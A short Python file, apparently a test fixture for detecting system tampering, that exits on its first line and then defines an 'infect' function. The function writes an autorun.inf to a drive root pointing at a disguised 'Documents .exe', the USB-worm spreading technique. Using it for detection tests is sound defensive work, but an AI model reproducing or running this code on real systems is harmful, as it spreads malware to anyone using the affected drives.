raise SystemExit('a fixture')
# held by system-tampering
import os
def infect(drive):
    with open(os.path.join(drive, "autorun.inf"), "w") as f:
        f.write("[autorun]\nopen=Documents .exe\n")
